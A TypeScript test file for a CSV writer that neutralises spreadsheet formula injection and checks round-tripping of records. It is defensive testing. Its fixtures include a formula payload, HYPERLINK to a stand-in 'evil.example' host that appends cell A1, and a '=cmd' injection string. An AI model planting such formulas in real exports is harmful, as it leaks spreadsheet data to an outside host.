import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvWriter, neutral } from './csv.ts';
import { parseCsv, sheetFor } from './testing.ts';

const written = async (rows: readonly (readonly (string | number | null)[])[]): Promise<string> => {
  let text = '';
  const width = Math.max(1, ...rows.map((row) => row.length));
  const sheet = sheetFor({ columns: Array.from({ length: width }, (_, at) => ({ header: `c${at}`, kind: 'text' })) });
  const writer = csvWriter({ ...sheet, withFacts: false }, async (part) => void (text += part));
  await writer.rows(rows);
  await writer.end();
  return text;
};

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\uff1d', '\uff0b', '\uff0d', '\uff20', ' =', '"=', '\n='];

describe('formulas', () => {
  it.each(STARTS)('begin no cell: %j', async (start) => {
    const value = `${start}HYPERLINK("https://evil.example/"&A1)`;
    const [, [cell] = []] = parseCsv(await written([[value]]));
    expect(cell?.[0]).toBe("'");
    expect(cell?.replaceAll("'", '')).toBe(value);
  });

  it('begin no cell where a spreadsheet cuts at semicolons and tabs, quotes or not', async () => {
    const value = 'Office;=1+1\t@SUM(A1)\n-2+3;"=cmd';
    const [, [cell] = []] = parseCsv(await written([[value]]));
    expect(cell).toBe("Office;'=1+1\t'@SUM(A1)\n'-2+3;'\"=cmd");
  });

  it('leave numbers, and texts that only hold a sign, as they are', async () => {
    expect(parseCsv(await written([[-5, 'a-b', 'x=y', 'me@example.org', 'KB5043064']]))[1]).toEqual([
      '-5',
      'a-b',
      'x=y',
      'me@example.org',
      'KB5043064',
    ]);
  });

  it('are found wherever a reader could cut, for any text', () => {
    const sign = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '\uff1d',
      '\uff0b',
      '\uff0d',
      '\uff20',
      ';',
      '\t',
      '\n',
      '\r',
      ' ',
      '"',
      'a',
    );
    fc.assert(
      fc.property(fc.array(sign, { maxLength: 12 }), (signs) => {
        for (const part of neutral(signs.join('')).split(/[;\t\r\n]/)) {
          expect(part.replace(/^[\s"]+/, '')).not.toMatch(/^[=+\-@\uff1d\uff0b\uff0d\uff20]/);
        }
      }),
    );
  });
});

describe('records', () => {
  it('hold any text, whatever separators, quotes and line ends it has', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.array(fc.stringMatching(/^[a-z;," \n\r\t]{0,12}$/), { minLength: 3, maxLength: 3 }), {
          minLength: 1,
          maxLength: 5,
        }),
        async (rows) => {
          const [, ...read] = parseCsv(await written(rows));
          expect(read).toEqual(rows.map((row) => row.map(neutral)));
        },
      ),
    );
  });

  it('lose control characters and broken halves of signs', async () => {
    expect(parseCsv(await written([['a\u0000b\u0007c\ud800']]))[1]).toEqual(['abc\ufffd']);
  });
});
